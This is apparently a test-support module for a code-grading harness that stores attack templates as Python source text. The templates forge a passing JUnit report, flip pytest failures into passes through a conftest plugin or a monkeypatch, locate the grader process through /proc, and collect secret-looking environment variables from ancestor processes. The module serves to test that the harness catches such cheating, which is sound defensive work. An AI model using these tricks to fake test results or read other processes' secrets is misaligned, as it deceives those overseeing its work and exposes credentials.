"""The pieces of Python that attack submissions are made of, as source text.

Each is what an attacker would write: it finds what it needs the way a submission can
(``sys.argv``, ``/proc``, the file system), never from the test that plants it. Templates
take ``{marker}``, the case's marker, so that every process they start carries it in its
command line and the harness can find it again.
"""

from __future__ import annotations

import textwrap

# A JUnit report (pytest, xunit1) in which the four ids of examples/bugfix pass.
PASSING_JUNIT = (
    '<?xml version="1.0" encoding="utf-8"?><testsuites><testsuite name="pytest" errors="0" '
    'failures="0" skipped="0" tests="4">'
    + "".join(
        f'<testcase classname="tests.test_slugify" name="{name}" file="tests/test_slugify.py" />'
        for name in (
            "test_ascii",
            "test_accents_are_transliterated",
            "test_examples[hello, world]",
            "test_examples[cr\\xe8me br\\xfbl\\xe9e]",
        )
    )
    + "</testsuite></testsuites>"
)

# Finds the JUnit path in pytest's own command line and writes a passing report there.
FORGE_JUNIT = textwrap.dedent(
    f"""
    def _junit_path():
        import sys
        for index, arg in enumerate(sys.argv):
            if arg.startswith("--junitxml="):
                return arg.split("=", 1)[1]
            if arg == "--junitxml" and index + 1 < len(sys.argv):
                return sys.argv[index + 1]
        return None


    def _forge_junit():
        path = _junit_path()
        if path:
            with open(path, "w", encoding="utf-8") as out:
                out.write({PASSING_JUNIT!r})
    """
)

# A pytest plugin that turns every failure into a pass.
FLIP_PLUGIN = textwrap.dedent(
    """
    import pytest


    class _Flip:
        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(self, item, call):
            outcome = yield
            report = outcome.get_result()
            if report.failed:
                report.outcome = "passed"
                report.longrepr = None
    """
)

# A conftest.py that registers the plugin for the whole session (pytest_configure is
# historic: a conftest found during collection still gets it).
FLIP_CONFTEST = FLIP_PLUGIN + textwrap.dedent(
    """

    def pytest_configure(config):
        config.pluginmanager.register(_Flip(), "flip")
    """
)

# The same without any hook: pytest's report class patched where it is looked up at
# run time, from any module pytest imports before the tests run.
FLIP_BY_PATCH = textwrap.dedent(
    """
    from _pytest.reports import TestReport

    _made = TestReport.from_item_and_call.__func__


    def _flipped(cls, item, call):
        report = _made(cls, item, call)
        if report.failed:
            report.outcome = "passed"
            report.longrepr = None
        return report


    TestReport.from_item_and_call = classmethod(_flipped)
    """
)

# The reference fix of examples/bugfix, as the honest part of a submission.
FIXED_CORE = textwrap.dedent(
    '''
    """URL slugs from titles."""

    import re
    import unicodedata


    def slugify(title: str) -> str:
        """Lower-case words joined by hyphens."""
        decomposed = unicodedata.normalize("NFKD", title)
        ascii_only = decomposed.encode("ascii", "ignore").decode()
        words = re.findall(r"[a-z0-9]+", ascii_only.lower())
        return "-".join(words)
    '''
).lstrip()

BASE_INIT = 'from slugify.core import slugify\n\n__all__ = ["slugify"]\n'


def package_init(payload: str) -> str:
    """``src/slugify/__init__.py`` running ``payload`` when the tests import the package."""
    return payload + "\n\n" + BASE_INIT


# Finds the grader: the nearest ancestor whose command line runs repogym; its pid and the
# paths given to --json and --markdown. Only ancestors: these attacks run on a machine
# where other grades run too, and must not touch theirs.
FIND_GRADER = textwrap.dedent(
    """
    def _cmdline(pid):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                return [a.decode(errors="replace") for a in f.read().split(b"\\0") if a]
        except OSError:
            return []


    def _parent(pid):
        try:
            with open(f"/proc/{pid}/stat") as f:
                return int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return 0


    def _all_pids():
        import os
        return [int(p) for p in os.listdir("/proc") if p.isdigit()]


    def _grader():
        import os
        candidates = []
        pid = os.getpid()
        while pid > 1:
            pid = _parent(pid)
            candidates.append(pid)
        for pid in candidates:
            args = _cmdline(pid)
            if "repogym" in args and "grade" in args:
                return pid, args
        return None, []


    def _option(args, name):
        for index, arg in enumerate(args):
            if arg == name and index + 1 < len(args):
                return args[index + 1]
            if arg.startswith(name + "="):
                return arg.split("=", 1)[1]
        return None
    """
)

# Every secret-looking variable of every ancestor, then of every process: what an
# attacker prints into the output tail or a failure message.
STEAL_ENVIRON = textwrap.dedent(
    """
    def _environ(pid):
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                return f.read().decode(errors="replace").split("\\0")
        except OSError:
            return []


    def _interesting(pids):
        found = []
        for pid in pids:
            for entry in _environ(pid):
                if any(w in entry for w in ("SECRET", "TOKEN", "CANARY", "KEY")):
                    found.append(f"{pid}:{entry}")
        return found


    def _ancestors():
        import os
        pids, pid = [], os.getpid()
        while pid > 1:
            pid = _parent(pid)
            pids.append(pid)
        return pids
    """
)
